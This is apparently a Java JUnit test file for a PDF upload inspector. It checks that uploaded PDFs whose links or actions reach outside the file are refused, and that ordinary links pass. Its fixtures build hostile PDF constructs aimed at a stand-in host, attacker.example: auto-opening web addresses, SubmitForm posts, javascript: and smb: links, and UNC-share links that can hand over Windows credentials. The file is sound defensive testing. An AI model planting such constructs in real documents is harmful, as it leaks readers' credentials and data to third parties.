package org.kcyj.attachment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.kcyj.attachment.PdfFixtures.pages;

import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.time.Duration;
import java.util.stream.Stream;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.kcyj.attachment.PdfInspector.Inspection;
import org.kcyj.attachment.PdfInspector.Limits;
import org.kcyj.attachment.PdfInspector.Reason;
import org.kcyj.attachment.PdfInspector.Refusal;

/**
 * Uploaded PDFs never make a reader's viewer reach outside the file: no action that opens or sends to another
 * file or address (GoToR, GoToE, ImportData, SubmitForm, media), no web address opened without a deliberate
 * click (on opening, on any trigger, by a link over most of a page), no link to a file or a network share (a
 * viewer following one can hand the reader's Windows credentials to whoever runs the share), no media or content
 * loaded from elsewhere. Ordinary web and mail links, internal navigation and tagged structure pass.
 */
class PdfOutsideReachTest {

    private static final long TWENTY_MB = 20L << 20;
    private static final PdfInspector INSPECTOR = new PdfInspector(new Limits(Duration.ofSeconds(60),
            Limits.defaults().maxMainMemoryBytes(), Limits.defaults().maxAllocatedBytes()));

    @AfterAll
    static void stopWorkers() {
        INSPECTOR.close();
    }

    interface Change {
        void apply(PDDocument document) throws IOException;
    }

    static Stream<Arguments> reachingOutside() {
        return Stream.of(
                // actions that open or send to another file or address, wherever they sit
                refused("GoToR to a file on a network share behind a link", Reason.REMOTE_ACTION,
                        d -> link(d, 0, small(), remoteGoTo("\\\\attacker.example\\share\\x.pdf"))),
                refused("GoToR on opening", Reason.REMOTE_ACTION,
                        d -> catalog(d).setItem(COSName.OPEN_ACTION, remoteGoTo("https://attacker.example/x.pdf"))),
                refused("GoToE to an embedded target in another file", Reason.REMOTE_ACTION,
                        d -> link(d, 0, small(), action("GoToE", a -> a.setItem(COSName.F, urlFile("https://attacker.example/x.pdf"))))),
                refused("ImportData on opening", Reason.REMOTE_ACTION,
                        d -> catalog(d).setItem(COSName.OPEN_ACTION, action("ImportData",
                                a -> a.setItem(COSName.F, urlFile("https://attacker.example/data.fdf"))))),
                refused("SubmitForm behind a button", Reason.REMOTE_ACTION,
                        d -> widget(d, action("SubmitForm", a -> a.setItem(COSName.F, urlFile("https://attacker.example/collect"))))),
                refused("SubmitForm chained after internal navigation", Reason.REMOTE_ACTION, d -> {
                    COSDictionary goTo = goTo(d);
                    goTo.setItem(COSName.NEXT, action("SubmitForm", a -> a.setItem(COSName.F, urlFile("https://attacker.example/"))));
                    link(d, 0, small(), goTo);
                }),
                refused("a thread in another file", Reason.REMOTE_ACTION,
                        d -> link(d, 0, small(), action("Thread", a -> {
                            a.setItem(COSName.F, urlFile("\\\\attacker.example\\share\\threads.pdf"));
                            a.setInt(COSName.D, 0);
                        }))),
                refused("a Rendition action when a page opens", Reason.REMOTE_ACTION,
                        d -> pageActions(d, 1, "O", action("Rendition", a -> a.setInt(COSName.getPDFName("OP"), 0)))),
                refused("a Sound action on a bookmark", Reason.REMOTE_ACTION, d -> {
                    COSDictionary item = new COSDictionary();
                    item.setString(COSName.TITLE, "一、项目概况");
                    item.setItem(COSName.A, action("Sound", a -> { }));
                    COSDictionary outlines = new COSDictionary();
                    outlines.setItem(COSName.TYPE, COSName.OUTLINES);
                    outlines.setItem(COSName.FIRST, item);
                    outlines.setItem(COSName.LAST, item);
                    item.setItem(COSName.PARENT, outlines);
                    catalog(d).setItem(COSName.OUTLINES, outlines);
                }),
                refused("an action type no viewer documents", Reason.REMOTE_ACTION,
                        d -> link(d, 0, small(), action("FetchEverything", a -> { }))),
                // web addresses opened without a deliberate click
                refused("a web address on opening", Reason.AUTOMATIC_LINK,
                        d -> catalog(d).setItem(COSName.OPEN_ACTION, uri("https://attacker.example/opened"))),
                refused("a web address when the document is about to close", Reason.AUTOMATIC_LINK, d -> {
                    COSDictionary aa = new COSDictionary();
                    aa.setItem(COSName.getPDFName("WC"), uri("https://attacker.example/closing"));
                    catalog(d).setItem(COSName.AA, aa);
                }),
                refused("a web address when a page opens", Reason.AUTOMATIC_LINK,
                        d -> pageActions(d, 1, "O", uri("https://attacker.example/page"))),
                refused("a web address when the pointer enters a link", Reason.AUTOMATIC_LINK, d -> {
                    COSDictionary link = link(d, 0, small(), goTo(d));
                    COSDictionary aa = new COSDictionary();
                    aa.setItem(COSName.E, uri("https://attacker.example/hover"));
                    link.setItem(COSName.AA, aa);
                }),
                refused("a web address chained after opening at the first page", Reason.AUTOMATIC_LINK, d -> {
                    COSDictionary goTo = goTo(d);
                    COSArray next = new COSArray();
                    next.add(uri("https://attacker.example/chained"));
                    goTo.setItem(COSName.NEXT, next);
                    catalog(d).setItem(COSName.OPEN_ACTION, goTo);
                }),
                refused("a web link covering the whole page", Reason.AUTOMATIC_LINK,
                        d -> link(d, 0, PDRectangle.A4, uri("https://attacker.example/any-click"))),
                refused("a web link over most of a page through its parent action", Reason.AUTOMATIC_LINK, d -> {
                    COSDictionary link = link(d, 0, new PDRectangle(0, 0, 595, 600), goTo(d));
                    link.setItem(COSName.getPDFName("PA"), uri("https://attacker.example/pa"));
                }),
                refused("a small link sharing its action with a full-page one", Reason.AUTOMATIC_LINK, d -> {
                    COSDictionary web = uri("https://attacker.example/shared");
                    link(d, 0, small(), web);
                    link(d, 1, PDRectangle.A4, web);
                }),
                // links to things that are not web pages
                refused("a link to a network share", Reason.EXTERNAL_LINK,
                        d -> link(d, 0, small(), uri("\\\\attacker.example\\share\\paper.pdf"))),
                refused("a file: link", Reason.EXTERNAL_LINK, d -> link(d, 0, small(), uri("file://attacker.example/share/x"))),
                refused("an smb: link", Reason.EXTERNAL_LINK, d -> link(d, 0, small(), uri("smb://attacker.example/share"))),
                refused("a javascript: link", Reason.EXTERNAL_LINK, d -> link(d, 0, small(), uri("javascript:alert(1)"))),
                refused("a relative link resolved against the file's base", Reason.EXTERNAL_LINK, d -> {
                    COSDictionary base = new COSDictionary();
                    base.setString(COSName.getPDFName("Base"), "file://attacker.example/share/");
                    catalog(d).setItem(COSName.URI, base);
                    link(d, 0, small(), uri("x.pdf"));
                }),
                refused("an http link written with backslashes", Reason.EXTERNAL_LINK,
                        d -> link(d, 0, small(), uri("http:\\\\attacker.example\\share"))),
                refused("a link whose address is not text", Reason.EXTERNAL_LINK, d -> {
                    COSDictionary web = action("URI", a -> a.setItem(COSName.URI, COSName.getPDFName("x")));
                    link(d, 0, small(), web);
                }),
                // media and content from elsewhere
                refused("a RichMedia annotation", Reason.RICH_MEDIA, d -> annotation(d, 0, "RichMedia")),
                refused("a Screen annotation", Reason.RICH_MEDIA, d -> annotation(d, 0, "Screen")),
                refused("a Sound annotation", Reason.RICH_MEDIA, d -> annotation(d, 0, "Sound")),
                refused("a Movie annotation", Reason.RICH_MEDIA, d -> annotation(d, 0, "Movie")),
                refused("image data kept in a file on a share", Reason.EXTERNAL_CONTENT, d -> {
                    COSStream image = d.getDocument().createCOSStream();
                    image.setItem(COSName.TYPE, COSName.XOBJECT);
                    image.setItem(COSName.SUBTYPE, COSName.IMAGE);
                    image.setString(COSName.F, "\\\\attacker.example\\share\\logo.png");
                    xObject(d, 0, image);
                }),
                refused("stream data fetched through a file filter", Reason.EXTERNAL_CONTENT, d -> {
                    COSStream stream = d.getDocument().createCOSStream();
                    stream.setItem(COSName.getPDFName("FFilter"), COSName.FLATE_DECODE);
                    catalog(d).setItem(COSName.getPDFName("KcyjData"), stream);
                }),
                refused("a reference XObject importing a page of another file", Reason.EXTERNAL_CONTENT, d -> {
                    COSStream form = d.getDocument().createCOSStream();
                    try (OutputStream out = form.createOutputStream()) {
                        out.write(new byte[0]);
                    }
                    form.setItem(COSName.TYPE, COSName.XOBJECT);
                    form.setItem(COSName.SUBTYPE, COSName.FORM);
                    COSDictionary reference = new COSDictionary();
                    reference.setItem(COSName.F, urlFile("https://attacker.example/page.pdf"));
                    reference.setInt(COSName.PAGE, 0);
                    form.setItem(COSName.getPDFName("Ref"), reference);
                    xObject(d, 0, form);
                }),
                refused("a file specification naming a URL", Reason.EXTERNAL_CONTENT,
                        d -> catalog(d).setItem(COSName.getPDFName("KcyjSource"), urlFile("https://attacker.example/src"))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("reachingOutside")
    void whatReachesOutsideTheFileIsRefusedWithItsReason(String what, Reason reason, Change change) {
        assertThat(INSPECTOR.inspect(pdf(change), TWENTY_MB, 500)).isInstanceOfSatisfying(Refusal.class,
                refusal -> assertThat(refusal.reason()).as(what).isEqualTo(reason));
    }

    @Test
    void ordinaryLinksNavigationAndTaggedStructurePass() {
        byte[] pdf = pdf(d -> {
            link(d, 0, small(), uri("https://kjj.ningbo.gov.cn/"));
            link(d, 0, small(), uri("HTTP://example.org/paper?id=1"));
            link(d, 0, small(), uri("mailto:kjj@ningbo.gov.cn"));
            // a link over less than half of a page, e.g. a large figure linked to its source
            link(d, 1, new PDRectangle(0, 0, 595, 400), uri("https://doi.org/10.1000/182"));
            link(d, 1, small(), goTo(d));
            link(d, 1, small(), action("Named", a -> a.setItem(COSName.N, COSName.getPDFName("NextPage"))));
            COSDictionary openAt = goTo(d);
            catalog(d).setItem(COSName.OPEN_ACTION, openAt);
            // tagged structure and page labels also use /S, and structure elements use /A for attributes
            COSDictionary attributes = new COSDictionary();
            attributes.setItem(COSName.O, COSName.getPDFName("Layout"));
            COSDictionary paragraph = new COSDictionary();
            paragraph.setItem(COSName.TYPE, COSName.getPDFName("StructElem"));
            paragraph.setItem(COSName.S, COSName.P);
            paragraph.setItem(COSName.A, attributes);
            COSDictionary tree = new COSDictionary();
            tree.setItem(COSName.TYPE, COSName.STRUCT_TREE_ROOT);
            tree.setItem(COSName.K, paragraph);
            catalog(d).setItem(COSName.STRUCT_TREE_ROOT, tree);
            COSDictionary style = new COSDictionary();
            style.setItem(COSName.S, COSName.D);
            COSArray nums = new COSArray();
            nums.add(org.apache.pdfbox.cos.COSInteger.ZERO);
            nums.add(style);
            COSDictionary labels = new COSDictionary();
            labels.setItem(COSName.NUMS, nums);
            catalog(d).setItem(COSName.PAGE_LABELS, labels);
        });
        assertThat(INSPECTOR.inspect(pdf, TWENTY_MB, 500)).isInstanceOf(Inspection.class);
    }

    @Test
    void aLoopOfChainedActionsOnAFullPageLinkEnds() {
        byte[] pdf = pdf(d -> {
            COSDictionary first = goTo(d);
            COSDictionary second = goTo(d);
            first.setItem(COSName.NEXT, second);
            second.setItem(COSName.NEXT, first);
            link(d, 0, PDRectangle.A4, first);
        });
        assertThat(INSPECTOR.inspect(pdf, TWENTY_MB, 500)).isInstanceOf(Inspection.class);
    }

    @Test
    void webAndMailAddressesAreTheOnlyLinksAClickMayOpen() {
        assertThat(PdfStructure.webOrMail(new COSString("https://example.org/"))).isTrue();
        assertThat(PdfStructure.webOrMail(new COSString(" http://example.org"))).isTrue();
        assertThat(PdfStructure.webOrMail(new COSString("mailto:a@example.org"))).isTrue();
        for (String address : new String[] {"", "example.org", "//example.org/x", "file:///C:/x", "ftp://example.org",
                "\\\\host\\share", "http:\\\\host\\share", "https:host", "http://host\\share", "data:text/html,x",
                "javascript:x", ":x"}) {
            assertThat(PdfStructure.webOrMail(new COSString(address))).as(address).isFalse();
        }
        assertThat(PdfStructure.webOrMail(null)).isFalse();
    }

    // --- building blocks

    private static Arguments refused(String what, Reason reason, Change change) {
        return Arguments.of(what, reason, change);
    }

    private static byte[] pdf(Change change) {
        return pages(2, document -> {
            try {
                change.apply(document);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    private static COSDictionary catalog(PDDocument document) {
        return document.getDocumentCatalog().getCOSObject();
    }

    private static PDRectangle small() {
        return new PDRectangle(72, 700, 200, 20);
    }

    private static COSDictionary action(String type, java.util.function.Consumer<COSDictionary> fill) {
        COSDictionary action = new COSDictionary();
        action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
        action.setItem(COSName.S, COSName.getPDFName(type));
        fill.accept(action);
        return action;
    }

    private static COSDictionary uri(String address) {
        return action("URI", a -> a.setString(COSName.URI, address));
    }

    private static COSDictionary goTo(PDDocument document) {
        COSArray destination = new COSArray();
        destination.add(document.getPage(0).getCOSObject());
        destination.add(COSName.getPDFName("Fit"));
        return action("GoTo", a -> a.setItem(COSName.D, destination));
    }

    private static COSDictionary remoteGoTo(String file) {
        return action("GoToR", a -> {
            a.setString(COSName.F, file);
            COSArray destination = new COSArray();
            destination.add(org.apache.pdfbox.cos.COSInteger.ZERO);
            destination.add(COSName.getPDFName("Fit"));
            a.setItem(COSName.D, destination);
        });
    }

    private static COSDictionary urlFile(String url) {
        COSDictionary file = new COSDictionary();
        file.setItem(COSName.TYPE, COSName.FILESPEC);
        file.setItem(COSName.FS, COSName.getPDFName("URL"));
        file.setString(COSName.F, url);
        return file;
    }

    private static COSDictionary link(PDDocument document, int page, PDRectangle rectangle, COSBase action) {
        COSDictionary link = annotation(document, page, "Link");
        link.setItem(COSName.RECT, rectangle.getCOSArray());
        link.setItem(COSName.A, action);
        return link;
    }

    private static COSDictionary annotation(PDDocument document, int page, String subtype) {
        COSDictionary annotation = new COSDictionary();
        annotation.setItem(COSName.TYPE, COSName.ANNOT);
        annotation.setItem(COSName.SUBTYPE, COSName.getPDFName(subtype));
        annotation.setItem(COSName.RECT, small().getCOSArray());
        PDPage p = document.getPage(page);
        COSArray annotations = p.getCOSObject().getCOSArray(COSName.ANNOTS);
        if (annotations == null) {
            annotations = new COSArray();
            p.getCOSObject().setItem(COSName.ANNOTS, annotations);
        }
        annotations.add(annotation);
        return annotation;
    }

    private static void widget(PDDocument document, COSDictionary action) {
        COSDictionary button = annotation(document, 0, "Widget");
        button.setItem(COSName.FT, COSName.getPDFName("Btn"));
        button.setInt(COSName.FF, 1 << 16);
        button.setString(COSName.T, "submit");
        button.setItem(COSName.A, action);
        COSArray fields = new COSArray();
        fields.add(button);
        COSDictionary form = new COSDictionary();
        form.setItem(COSName.FIELDS, fields);
        catalog(document).setItem(COSName.ACRO_FORM, form);
    }

    private static void pageActions(PDDocument document, int page, String trigger, COSDictionary action) {
        COSDictionary aa = new COSDictionary();
        aa.setItem(COSName.getPDFName(trigger), action);
        document.getPage(page).getCOSObject().setItem(COSName.AA, aa);
    }

    private static void xObject(PDDocument document, int page, COSStream object) {
        COSDictionary resources = document.getPage(page).getCOSObject().getCOSDictionary(COSName.RESOURCES);
        if (resources == null) {
            resources = new COSDictionary();
            document.getPage(page).getCOSObject().setItem(COSName.RESOURCES, resources);
        }
        COSDictionary xObjects = resources.getCOSDictionary(COSName.XOBJECT);
        if (xObjects == null) {
            xObjects = new COSDictionary();
            resources.setItem(COSName.XOBJECT, xObjects);
        }
        xObjects.setItem(COSName.getPDFName("Ext1"), object);
    }
}
